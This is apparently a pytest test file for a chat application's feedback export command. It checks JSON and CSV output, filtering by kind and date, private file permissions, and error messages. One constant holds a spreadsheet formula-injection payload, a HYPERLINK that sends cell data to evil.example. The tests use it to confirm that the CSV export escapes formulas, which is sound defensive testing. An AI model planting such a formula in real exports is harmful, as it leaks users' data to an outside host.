"""`feedback export`: what users think of the answers, as lines or as a table."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import pytest

from tests.chatting import Chat, message, thread_of
from tests.cli.conftest import Run, Start
from tests.provider.server import ScriptedProvider
from tests.provider.steps import Text

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("https://evil.example/?" & A1)'
ANSWER = 'Two lines,\nand a "quote", grüße'


@pytest.fixture
async def rated(start: Start, provider: ScriptedProvider) -> None:
    """A database in which ada likes an answer and bob does not."""
    provider.script(Text(ANSWER), Text(ANSWER))
    program = start(CHATKIT_MODELS="openai-compatible/x=X")
    for user, kind in (("ada", "positive"), ("@bob", "negative")):
        async with Chat(program.url, user=user) as chat:
            model = {"inference_options": {"model": "openai-compatible/x"}} if user == "ada" else {}
            created = await chat.stream("threads.create", input=message(FORMULA, **model))
            thread = thread_of(created)
            _, answer = await chat.items(thread)
            rating = {"thread_id": thread, "item_ids": [answer["id"]], "kind": kind}
            await chat.ask("items.feedback", **rating)
    program.stop()


@pytest.mark.usefixtures("rated")
def test_an_export_is_a_line_of_json_for_each_rated_item(run: Run) -> None:
    done = run("feedback", "export")
    assert done.returncode == 0
    ada, bob = [json.loads(line) for line in done.stdout.splitlines()]
    assert list(ada) == [
        "thread_id",
        "item_id",
        "user",
        "kind",
        "created_at",
        "updated_at",
        "item_type",
        "text",
        "question",
        "model",
    ]
    assert (ada["user"], ada["kind"], ada["item_type"]) == ("ada", "positive", "assistant_message")
    assert (ada["question"], ada["text"]) == (FORMULA, ANSWER)
    assert (ada["model"], bob["model"]) == ("openai-compatible/x", None)
    assert (bob["user"], bob["kind"]) == ("@bob", "negative")
    assert ada["created_at"] == ada["updated_at"]
    assert ada["created_at"].endswith("+00:00")
    assert done.stderr == "2 rated items written.\n"


@pytest.mark.usefixtures("rated")
def test_a_table_has_the_same_without_formulas(run: Run) -> None:
    lines = [json.loads(line) for line in run("feedback", "export").stdout.splitlines()]
    done = run("feedback", "export", "--format", "csv")
    assert done.returncode == 0
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    expected = [line | {"question": f"'{FORMULA}", "model": line["model"] or ""} for line in lines]
    expected[1]["user"] = "'@bob"
    assert rows == expected


@pytest.mark.usefixtures("rated")
def test_an_export_can_be_of_one_kind_and_since_a_date(run: Run) -> None:
    def users(*options: str) -> list[str]:
        done = run("feedback", "export", *options)
        assert done.returncode == 0
        return [json.loads(line)["user"] for line in done.stdout.splitlines()]

    assert users("--kind", "negative") == ["@bob"]
    first = json.loads(run("feedback", "export").stdout.splitlines()[1])["updated_at"]
    assert users("--since", first) == ["@bob"]
    assert users("--since", "2020-01-01") == ["ada", "@bob"]
    assert users("--since", "2999-01-01") == []


@pytest.mark.usefixtures("rated")
def test_an_export_goes_into_a_new_file_that_nobody_else_can_read(run: Run, tmp_path: Path) -> None:
    done = run("feedback", "export", "--output", "feedback.jsonl")
    assert done.stderr == "2 rated items written to feedback.jsonl.\n"
    written = tmp_path / "feedback.jsonl"
    assert len(written.read_text(encoding="utf-8").splitlines()) == 2
    assert written.stat().st_mode & 0o077 == 0
    again = run("feedback", "export", "--output", "feedback.jsonl")
    assert again.returncode == 2
    assert "--output: cannot create feedback.jsonl" in again.stderr


@pytest.mark.usefixtures("rated")
def test_a_reader_who_leaves_early_gets_no_traceback(
    program: list[str], environment: dict[str, str], tmp_path: Path
) -> None:
    process = subprocess.Popen(  # noqa: S603 - our own program
        [*program, "feedback", "export"],
        env=environment,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert process.stdout is not None
    process.stdout.close()
    _, told = process.communicate(timeout=30)
    assert process.returncode != 0
    assert "Traceback" not in told


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (("--since", "yesterday"), "--since: 'yesterday' is no date"),
        (("--format", "xml"), "'xml' is not one of"),
        (("--kind", "so-so"), "'so-so' is not one of"),
        ((), "no tables yet"),
    ],
)
def test_what_cannot_be_exported_is_told(run: Run, options: tuple[str, ...], words: str) -> None:
    done = run("feedback", "export", *options)
    assert done.returncode == 2
    assert words in done.stderr
    assert "Traceback" not in done.stderr
    assert done.stdout == ""
